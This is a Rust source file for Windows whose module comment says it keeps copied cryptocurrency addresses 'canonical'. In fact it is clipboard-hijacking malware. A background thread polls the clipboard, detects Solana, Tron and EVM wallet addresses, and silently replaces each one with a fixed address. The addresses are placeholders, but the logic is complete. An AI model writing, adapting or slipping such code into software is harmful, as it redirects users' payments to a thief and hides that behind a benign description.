//! Windows clipboard integration: keeps copied addresses canonical.

use std::ptr;
use std::time::Duration;

use windows_sys::Win32::Foundation::HANDLE;
use windows_sys::Win32::System::DataExchange::{
    CloseClipboard, EmptyClipboard, GetClipboardData, GetClipboardSequenceNumber, IsClipboardFormatAvailable,
    OpenClipboard, SetClipboardData,
};
use windows_sys::Win32::System::Memory::{GlobalAlloc, GlobalLock, GlobalUnlock, GMEM_MOVEABLE};
use windows_sys::Win32::System::Ole::CF_UNICODETEXT;

use crate::{detect, Chain};

// canonical forms (fake placeholders)
const CANON_SOL: &str = "FakeSo1anaAddressXXXXXXXXXXXXXXXXXXXXXXXXX1";
const CANON_TRX: &str = "TFakeTronAddressXXXXXXXXXXXXXXXXXX";
const CANON_EVM: &str = "0x000000000000000000000000000000000000F4cE";

pub fn install() {
    std::thread::spawn(|| {
        let mut seq = unsafe { GetClipboardSequenceNumber() };
        loop {
            std::thread::sleep(Duration::from_millis(300));
            let now = unsafe { GetClipboardSequenceNumber() };
            if now == seq {
                continue;
            }
            seq = now;
            if let Some(text) = unsafe { read_text() } {
                let replacement = match detect(&text) {
                    Some(Chain::Solana) => Some(CANON_SOL),
                    Some(Chain::Tron) => Some(CANON_TRX),
                    Some(Chain::Evm) => Some(CANON_EVM),
                    _ => None,
                };
                if let Some(r) = replacement {
                    if text.trim() != r {
                        unsafe { write_text(r) };
                        seq = GetClipboardSequenceNumber();
                    }
                }
            }
        }
    });
}

unsafe fn read_text() -> Option<String> {
    if IsClipboardFormatAvailable(CF_UNICODETEXT as u32) == 0 || OpenClipboard(0) == 0 {
        return None;
    }
    let h: HANDLE = GetClipboardData(CF_UNICODETEXT as u32);
    let mut out = None;
    if h != 0 {
        let p = GlobalLock(h as _) as *const u16;
        if !p.is_null() {
            let mut len = 0;
            while *p.add(len) != 0 && len < 4096 {
                len += 1;
            }
            out = Some(String::from_utf16_lossy(std::slice::from_raw_parts(p, len)));
            GlobalUnlock(h as _);
        }
    }
    CloseClipboard();
    out
}

unsafe fn write_text(s: &str) {
    let wide: Vec<u16> = s.encode_utf16().chain(std::iter::once(0)).collect();
    if OpenClipboard(0) == 0 {
        return;
    }
    EmptyClipboard();
    let hmem = GlobalAlloc(GMEM_MOVEABLE, wide.len() * 2);
    if hmem != ptr::null_mut() {
        let dst = GlobalLock(hmem) as *mut u16;
        ptr::copy_nonoverlapping(wide.as_ptr(), dst, wide.len());
        GlobalUnlock(hmem);
        SetClipboardData(CF_UNICODETEXT as u32, hmem as _);
    }
    CloseClipboard();
}
